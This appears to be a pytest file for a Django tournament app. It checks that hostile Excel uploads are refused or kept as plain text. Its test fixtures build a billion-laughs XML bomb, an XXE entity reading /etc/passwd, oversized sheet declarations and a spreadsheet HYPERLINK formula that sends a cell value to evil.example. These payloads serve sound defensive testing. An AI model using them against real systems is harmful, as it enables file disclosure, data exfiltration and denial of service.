"""Hostile workbooks (excel/package.py, excel/imports.py): each is refused with a message that
says what is wrong with it, before openpyxl parses it or after a bounded part of it, and the
job reports that message, never "Internal error"."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from tests.tournaments.builders import open_workbook
from tournaments.errors import ServiceError
from tournaments.excel import imports as reader
from tournaments.excel.workbook import Table, build, to_bytes
from tournaments.models import Job, Player
from tournaments.services.imports import import_confirm, import_start

pytestmark = pytest.mark.django_db

SHEET = "xl/worksheets/sheet1.xml"


def workbook(*rows) -> bytes:
    """A players' sheet; every text typed as text (a name may start with "=")."""
    wb = Workbook()
    wb.active.append(["Họ và tên", "Năm sinh"])
    for row in rows:
        wb.active.append(list(row))
    for cell in wb.active["A"]:
        cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def with_sheet(content: bytes, edit) -> bytes:
    """``content`` with its first sheet's XML replaced by ``edit(xml)``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for part in src.infolist():
            data = src.read(part)
            dst.writestr(part.filename, edit(data.decode()).encode() if part.filename == SHEET
                         else data)
    return out.getvalue()


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    dtd = f"<?xml version='1.0'?><!DOCTYPE worksheet [{entities}]>"
    return with_sheet(workbook(("Lê Văn A", 1990)),
                      lambda xml: dtd + xml.replace("Lê Văn A", "&lol9;"))


def xxe() -> bytes:
    dtd = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return with_sheet(workbook(("Lê Văn A", 1990)),
                      lambda xml: dtd + xml.replace("Lê Văn A", "&x;"))


def huge_dimension() -> bytes:
    """Two million rows declared; the data itself is small."""
    return with_sheet(workbook(("Lê Văn A", 1990)),
                      lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:B2000000"',
                                         xml))


def wide_dimension() -> bytes:
    """Every column Excel has declared (XFD is the 16,384th)."""
    return with_sheet(workbook(("Lê Văn A", 1990)),
                      lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD3"',
                                         xml))


def rows_in_an_ignored_column(n: int) -> bytes:
    """A sheet that declares 2 rows and holds ``n`` more, each with a value in column Z only:
    rows the reader skips, which still count against the limit."""
    extra = "".join(f'<row r="{r}"><c r="Z{r}" t="n"><v>{r}</v></c></row>'
                    for r in range(3, n + 3))
    return with_sheet(workbook(("Lê Văn A", 1990)),
                      lambda xml: xml.replace("</sheetData>", extra + "</sheetData>"))


@pytest.mark.parametrize("content, code", [
    (billion_laughs(), "dtd"),
    (xxe(), "dtd"),
    (huge_dimension(), "too_many_rows"),
    (wide_dimension(), "too_large_sheet"),
    (rows_in_an_ignored_column(20_000), "too_many_rows"),
], ids=["billion-laughs", "xxe", "huge-dimension", "wide-dimension",
         "rows-in-an-ignored-column"])
def test_a_hostile_workbook_is_refused_with_what_is_wrong(content, code):
    with pytest.raises(reader.FileRejected) as refused:
        reader.read(io.BytesIO(content))
    assert refused.value.code == code
    assert str(refused.value) != code  # a sentence for people, not the code


def test_rows_are_counted_before_they_are_skipped():
    """One player and rows of nothing the reader wants: the rows count all the same, so the
    reader stops after MAX_SHEET_ROWS rows, however many the sheet holds."""
    with pytest.raises(reader.FileRejected) as refused:
        reader.read(io.BytesIO(rows_in_an_ignored_column(reader.MAX_SHEET_ROWS + 1)))
    assert refused.value.code == "too_many_rows"
    preview = reader.read(io.BytesIO(rows_in_an_ignored_column(reader.MAX_SHEET_ROWS - 2)))
    assert [row.values["full_name"] for row in preview.rows] == ["Lê Văn A"]


def test_a_zip_that_unpacks_to_too_much_is_refused(monkeypatch):
    from tournaments.excel import package

    monkeypatch.setattr(package, "MAX_UNPACKED_BYTES", 2000)
    with pytest.raises(reader.FileRejected) as refused:
        reader.read(io.BytesIO(workbook(("Lê Văn A", 1990))))
    assert refused.value.code == "too_big_unpacked"


def test_a_part_that_is_not_xml_is_not_a_workbook():
    broken = with_sheet(workbook(("Lê Văn A", 1990)), lambda xml: xml.replace("</row>", "<row", 1))
    with pytest.raises(reader.FileRejected) as refused:
        reader.read(io.BytesIO(broken))
    assert refused.value.code == "not_workbook"


@pytest.mark.parametrize("content", [billion_laughs(), xxe()], ids=["billion-laughs", "xxe"])
def test_the_import_is_refused_at_upload_with_the_reason_not_an_internal_error(
        content, register_admin, media_root):
    upload = SimpleUploadedFile("vdv.xlsx", content)
    with pytest.raises(ServiceError) as refused:
        import_start(actor=register_admin, upload=upload, lang="en")
    assert "DTD" in str(refused.value)
    assert not Job.objects.exists() and Player.objects.count() == 0


def test_a_formula_name_imported_from_excel_is_text_in_every_download(
        make_event, organiser, django_capture_on_commit_callbacks, media_root):
    """A name typed as text that starts with "=" is a name like any other: it is imported,
    and the downloads keep it as text (excel/styles.py: new_cell)."""
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    event = make_event(format="swiss", rounds=5)
    upload = SimpleUploadedFile("vdv.xlsx", workbook((name, 1990), ("Lê Văn B", 1991)))
    with django_capture_on_commit_callbacks(execute=True):
        job = import_start(actor=organiser, upload=upload, event=event, lang="en")
    with django_capture_on_commit_callbacks(execute=True):
        import_confirm(job=Job.objects.get(pk=job.pk), actor=organiser)
    assert event.entries.filter(player__full_name=name).exists()
    content = to_bytes(build(event, Table("players"), lang="en"))
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert not any(re.search(rb"<(\w+:)?f[ >]", z.read(n)) for n in z.namelist())
    names = [c.value for c in open_workbook(content).worksheets[0]["C"]]
    assert name in names


@pytest.fixture
def register_admin(organiser):
    from django.contrib.auth.models import Permission

    organiser.user_permissions.add(Permission.objects.get(codename="add_player"))
    return type(organiser).objects.get(pk=organiser.pk)
